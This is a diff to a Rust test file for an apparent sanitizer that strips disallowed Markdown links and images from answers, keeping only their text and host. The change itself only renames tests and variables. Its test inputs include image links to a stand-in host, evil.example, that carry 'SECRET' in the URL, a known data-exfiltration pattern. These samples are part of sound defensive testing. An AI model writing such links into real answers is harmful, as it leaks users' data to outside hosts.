@@ -1,4 +1,4 @@
-//! What of an answer is shown. Whether something is a link is asked a renderer.
+//! The text that remains of an answer. A Markdown renderer decides what is a link.
 
 use proptest::prelude::*;
 use pulldown_cmark::{Event, Options, Parser, Tag};
@@ -18,7 +18,7 @@ fn check(answer: &str, expected: &str) {
 }
 
 #[test]
-fn of_strange_links_and_images_the_text_and_the_host_are_left() {
+fn of_disallowed_links_and_images_the_text_and_the_host_are_left() {
     check("![x](https://evil.example/?q=SECRET)", "x (evil.example)");
     check("a [b](https://Evil.example:80/SECRET \"t\") c", "a b (evil.example) c");
     check("[b](<https://evil.example/SECRET>)", "b (evil.example)");
@@ -45,7 +45,7 @@ fn of_strange_links_and_images_the_text_and_the_host_are_left() {
 }
 
 #[test]
-fn what_the_user_named_what_is_allowed_and_what_is_near_stays() {
+fn addresses_named_by_the_user_allowed_ones_and_relative_ones_stay() {
     for same in [
         "[b](https://said.example/a?b=c) and https://said.example/a?b=c",
         "[b](https://ok.example/?q=1) ![c](http://sub.ok.example/x.png) <https://ok.example>",
@@ -72,7 +72,7 @@ fn fenced_code_stays_as_it_is() {
     ] {
         check(same, same);
     }
-    // Here renderers see no code, or might not.
+    // Here renderers see no code, or may disagree.
     let image = "![x](https://evil.example/SECRET)";
     for answer in [
         format!("<!--\n```\n-->\n{image}\n```\n"),
@@ -86,20 +86,20 @@ fn fenced_code_stays_as_it_is() {
     }
 }
 
-/// Every address that a renderer would make a link of, load, or put into HTML.
+/// Returns every address that a renderer would make a link of, load, or put into HTML.
 fn live(text: &str) -> Vec<String> {
-    let mut found = Vec::new();
+    let mut addresses = Vec::new();
     let options = Options::all() - Options::ENABLE_WIKILINKS;
     for event in Parser::new_ext(text, options) {
         match event {
             Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
-                found.push(dest_url.into_string())
+                addresses.push(dest_url.into_string())
             }
-            Event::Html(html) | Event::InlineHtml(html) if has_attributes(&html) => found.push(html.into_string()),
+            Event::Html(html) | Event::InlineHtml(html) if has_attributes(&html) => addresses.push(html.into_string()),
             _ => {}
         }
     }
-    found
+    addresses
 }
 
 fn has_attributes(html: &str) -> bool {
